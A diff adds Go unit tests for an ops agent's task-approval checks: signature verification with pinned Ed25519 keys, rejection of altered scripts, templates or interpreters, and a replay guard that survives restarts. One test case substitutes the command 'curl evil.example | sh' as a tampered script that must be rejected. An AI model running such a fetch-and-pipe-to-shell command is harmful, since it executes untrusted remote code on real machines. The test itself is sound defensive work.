@@ -0,0 +1,185 @@
+package agent
+
+import (
+	"crypto/ed25519"
+	"crypto/rand"
+	"crypto/x509"
+	"encoding/pem"
+	"os"
+	"path/filepath"
+	"testing"
+	"time"
+
+	"go.uber.org/zap"
+
+	pb "github.com/BogdanDolia/ops-butler/api/proto/agent"
+	"github.com/BogdanDolia/ops-butler/internal/signing"
+)
+
+func TestVerify(t *testing.T) {
+	pub, key, err := ed25519.GenerateKey(rand.Reader)
+	if err != nil {
+		t.Fatal(err)
+	}
+	dir := t.TempDir()
+	keysFile := writeKeys(t, dir, pub)
+	signer := writeSigner(t, dir, key, 24*time.Hour)
+
+	const script = "kubectl rollout restart deploy/$APP"
+	approved := func(change func(*pb.ExecuteTaskRequest)) *pb.ExecuteTaskRequest {
+		approval := signer.Approve("restart", "", script, time.Now())
+		req := &pb.ExecuteTaskRequest{
+			TaskId:       "1",
+			TemplateName: "restart",
+			Script:       script,
+			Params:       map[string]string{"APP": "web"},
+			KeyId:        approval.KeyID,
+			ExpiresAt:    approval.ExpiresAt,
+			Signature:    approval.Signature,
+		}
+		if change != nil {
+			change(req)
+		}
+		return req
+	}
+
+	tests := []struct {
+		name          string
+		keysFile      string
+		allowUnsigned bool
+		req           *pb.ExecuteTaskRequest
+		wantErr       bool
+	}{
+		{name: "approved script", keysFile: keysFile, req: approved(nil)},
+		{name: "params are chosen per run", keysFile: keysFile, req: approved(func(r *pb.ExecuteTaskRequest) { r.Params["APP"] = "api" })},
+		{name: "script changed in the database", keysFile: keysFile,
+			req: approved(func(r *pb.ExecuteTaskRequest) { r.Script = "curl evil.example | sh" }), wantErr: true},
+		{name: "approval of another template", keysFile: keysFile,
+			req: approved(func(r *pb.ExecuteTaskRequest) { r.TemplateName = "cleanup" }), wantErr: true},
+		{name: "other interpreter", keysFile: keysFile,
+			req: approved(func(r *pb.ExecuteTaskRequest) { r.Interpreter = "python3" }), wantErr: true},
+		{name: "unapproved", keysFile: keysFile, req: approved(func(r *pb.ExecuteTaskRequest) { r.Signature = nil }), wantErr: true},
+		{name: "no keys pinned", req: approved(nil), wantErr: true},
+		{name: "no keys pinned, unsigned allowed", allowUnsigned: true,
+			req: approved(func(r *pb.ExecuteTaskRequest) { r.Signature = nil })},
+		{name: "pinned keys unreadable", keysFile: filepath.Join(dir, "missing.pem"), req: approved(nil), wantErr: true},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			a := &Agent{
+				config:  &Config{ApprovalMaxTTL: 48 * time.Hour, AllowUnsignedTasks: tt.allowUnsigned},
+				keys:    &keyLoader{path: tt.keysFile},
+				replays: newReplayGuard(t.TempDir(), time.Hour, zap.NewNop()),
+			}
+			if err := a.verify(tt.req); (err != nil) != tt.wantErr {
+				t.Errorf("verify() error = %v, want error %t", err, tt.wantErr)
+			}
+		})
+	}
+
+	t.Run("replayed request", func(t *testing.T) {
+		a := &Agent{
+			config:  &Config{ApprovalMaxTTL: 48 * time.Hour},
+			keys:    &keyLoader{path: keysFile},
+			replays: newReplayGuard(t.TempDir(), time.Hour, zap.NewNop()),
+		}
+		req := approved(nil)
+		if err := a.verify(req); err != nil {
+			t.Fatalf("verify() error = %v", err)
+		}
+		if err := a.verify(req); err == nil {
+			t.Error("verify() accepted the same task twice")
+		}
+	})
+}
+
+func TestReplayGuard(t *testing.T) {
+	now := time.Unix(1_700_000_000, 0)
+
+	type accept struct {
+		taskID  string
+		now     time.Time
+		wantErr bool
+	}
+	tests := []struct {
+		name    string
+		accepts []accept
+	}{
+		{
+			name:    "first delivery",
+			accepts: []accept{{"1", now, false}},
+		},
+		{
+			name:    "replay within the window",
+			accepts: []accept{{"1", now, false}, {"1", now.Add(59 * time.Minute), true}},
+		},
+		{
+			name:    "other tasks",
+			accepts: []accept{{"1", now, false}, {"2", now, false}},
+		},
+		{
+			name:    "ID is forgotten after the window",
+			accepts: []accept{{"1", now, false}, {"1", now.Add(time.Hour), false}},
+		},
+		{
+			name:    "no task ID",
+			accepts: []accept{{"", now, true}},
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			g := newReplayGuard(t.TempDir(), time.Hour, zap.NewNop())
+			for i, a := range tt.accepts {
+				if err := g.accept(a.taskID, a.now); (err != nil) != a.wantErr {
+					t.Errorf("accept #%d (%q) error = %v, want error %t", i, a.taskID, err, a.wantErr)
+				}
+			}
+		})
+	}
+}
+
+func TestReplayGuardSurvivesRestart(t *testing.T) {
+	dir := t.TempDir()
+	now := time.Now()
+
+	if err := newReplayGuard(dir, time.Hour, zap.NewNop()).accept("1", now); err != nil {
+		t.Fatal(err)
+	}
+	if err := newReplayGuard(dir, time.Hour, zap.NewNop()).accept("1", now); err == nil {
+		t.Error("a restarted agent accepted a task it had already received")
+	}
+}
+
+// writeKeys writes a public key file as approvers hand it to agents
+func writeKeys(t *testing.T, dir string, pub ed25519.PublicKey) string {
+	t.Helper()
+	der, err := x509.MarshalPKIXPublicKey(pub)
+	if err != nil {
+		t.Fatal(err)
+	}
+	path := filepath.Join(dir, "keys.pem")
+	if err := os.WriteFile(path, pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der}), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	return path
+}
+
+// writeSigner writes a private key and loads it as an approver's signer
+func writeSigner(t *testing.T, dir string, key ed25519.PrivateKey, ttl time.Duration) *signing.Signer {
+	t.Helper()
+	der, err := x509.MarshalPKCS8PrivateKey(key)
+	if err != nil {
+		t.Fatal(err)
+	}
+	path := filepath.Join(dir, "key.pem")
+	if err := os.WriteFile(path, pem.EncodeToMemory(&pem.Block{Type: "PRIVATE KEY", Bytes: der}), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	signer, err := signing.LoadSigner(path, ttl)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return signer
+}